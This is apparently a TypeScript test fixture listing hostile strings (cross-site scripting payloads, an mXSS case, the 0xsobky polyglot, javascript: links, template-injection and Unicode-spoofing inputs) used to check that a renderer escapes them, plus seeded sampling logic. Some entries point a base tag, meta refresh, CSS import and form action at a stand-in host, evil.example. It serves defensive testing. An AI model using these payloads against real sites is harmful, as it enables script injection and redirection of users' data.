/** Words that would be more than words if anything took them for HTML, for script, for a style or for a template. */

import { readSampling } from '#test/support/matrix_sample.ts';

export interface HostileWords {
  readonly words: string;
  /** How a page betrays itself that takes them for HTML: at once, when it
   *  reads what it has written once more, by a click on its link, or by nothing that shows. */
  readonly fires: 'at once' | 'read twice' | 'by a click' | 'never';
}

/** What each would set: the test listens for it. The tag that makes a text unique may follow, so script ends in `//`. */
export const ALL_HOSTILE: readonly HostileWords[] = [
  { words: '<script>pwned=1</script>', fires: 'at once' },
  { words: '<img src=x onerror=pwned=1>', fires: 'at once' },
  { words: '<svg/onload=pwned=1>', fires: 'at once' },
  { words: '"><img src=x onerror="pwned=1">', fires: 'at once' },
  { words: '</script><script>pwned=1</script>', fires: 'at once' },
  { words: '--></title></textarea></style></option><svg onload=pwned=1>', fires: 'at once' },
  { words: '<iframe srcdoc="<script>parent.pwned=1</script>">', fires: 'at once' },
  // turned inside out by a parser that reads twice (mXSS)
  {
    words: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned=1>',
    fires: 'read twice',
  },
  // 0xsobky's polyglot, at home in a dozen places
  {
    words:
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=pwned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned=1//>\\x3e',
    fires: 'at once',
  },
  { words: '<a href="javascript:pwned=1">x</a>', fires: 'by a click' },
  { words: 'javascript:pwned=1//', fires: 'never' },
  { words: '" autofocus tabindex=0 onfocus="pwned=1//', fires: 'never' },
  { words: "' onmouseover='pwned=1//", fires: 'never' },
  { words: '[x](javascript:pwned=1) ![x](x" onerror="pwned=1)', fires: 'never' },
  { words: "{{constructor.constructor('pwned=1')()}}${pwned=1}#{pwned=1}", fires: 'never' },
  { words: "{@html '<img src=x onerror=pwned=1>'}`${pwned=1}`", fires: 'never' },
  {
    words: '&lt;img src=x onerror=pwned=1&gt;\\u003cimg src=x onerror=pwned=1\\u003e',
    fires: 'never',
  },
  {
    words: '<base href=//evil.example/><meta http-equiv=refresh content=0;//evil.example>',
    fires: 'never',
  },
  { words: '<style>@import"//evil.example";*{display:none}</style>', fires: 'never' },
  { words: '<form action=//evil.example><input name=x><dialog open>', fires: 'never' },
  // read from the right, zero width, stacked marks: nothing fires, and nothing may hide
  { words: '\u202Egnp.\u202Cexe \u2066x\u2069 a\u200Bb Z\u0351\u0352\u0353\u0354', fires: 'never' },
  { words: 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbau', fires: 'never' },
];

/** In a sample those of each kind that differ most: an element, the end of a script, what is read twice, the polyglot, a
 *  link, what cannot be seen, what is long; and one of the others by the seed. */
const ALWAYS = [1, 4, 7, 8, 9, 20, 21];
const { full, seed } = readSampling(process.env);
const others = [...ALL_HOSTILE.keys()].filter((i) => !ALWAYS.includes(i));
const drawn = others[seed % others.length] ?? 0;

/** All of them, or a run's sample. */
export const HOSTILE: readonly HostileWords[] = ALL_HOSTILE.filter(
  (_, i) => full || ALWAYS.includes(i) || i === drawn,
);
